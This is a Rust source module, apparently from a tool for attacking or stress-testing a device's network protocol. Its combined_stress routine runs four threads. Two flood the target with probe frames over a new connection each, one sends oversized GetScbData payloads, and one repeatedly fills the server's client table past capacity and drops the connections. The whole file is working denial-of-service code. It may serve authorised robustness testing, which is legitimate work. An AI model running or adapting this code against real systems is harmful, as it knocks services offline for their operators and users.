use std::thread;
use std::time::{Duration, Instant};

use tracing::info;

use super::AttackCtx;
use crate::conn::connect;
use crate::frame::build_frame;
use crate::proto::command::{CommandId, SCB_ADDRESS, probe_frame};

const NAME: &str = "combined_stress";

/// Two flood workers, one oversized-payload worker and one connection-churn worker, all
/// running until `duration` elapses or the run is stopped.
pub fn run_combined_stress(ctx: &AttackCtx, duration: Duration) {
    let end = Instant::now() + duration;
    let frame = probe_frame();
    let oversized = build_frame(
        SCB_ADDRESS,
        CommandId::GetScbData.id(),
        &vec![ctx.tuning.oversized_fill; ctx.tuning.oversized_payload_len],
    );

    thread::scope(|s| {
        s.spawn(|| send_and_close_worker(ctx, end, &frame, Duration::ZERO));
        s.spawn(|| send_and_close_worker(ctx, end, &frame, Duration::ZERO));
        s.spawn(|| send_and_close_worker(ctx, end, &oversized, ctx.tuning.oversized_pause));
        s.spawn(|| churn_worker(ctx, end));
    });

    info!("[combined] done");
}

fn running(ctx: &AttackCtx, end: Instant) -> bool {
    Instant::now() < end && !ctx.stop.is_cancelled()
}

/// Fresh connection per frame.
fn send_and_close_worker(ctx: &AttackCtx, end: Instant, frame: &[u8], pause: Duration) {
    while running(ctx, end) {
        match connect(&ctx.target, ctx.tuning.combined_connect_timeout) {
            Ok(mut conn) => match conn.send(frame) {
                Ok(()) => ctx.result.inc_sent(),
                Err(e) => ctx.result.record_failure(NAME, &e),
            },
            Err(e) => ctx.result.record_failure(NAME, &e),
        }
        if !pause.is_zero() {
            thread::sleep(pause);
        }
    }
}

/// Fill the client table past capacity and drop everything, over and over.
fn churn_worker(ctx: &AttackCtx, end: Instant) {
    let per_round = ctx.tuning.table_capacity + 2;
    while running(ctx, end) {
        let mut conns = Vec::with_capacity(per_round);
        for _ in 0..per_round {
            match connect(&ctx.target, ctx.tuning.churn_connect_timeout) {
                Ok(c) => conns.push(c),
                Err(e) => ctx.result.record_failure(NAME, &e),
            }
        }
        drop(conns);
        thread::sleep(ctx.tuning.churn_pause);
    }
}
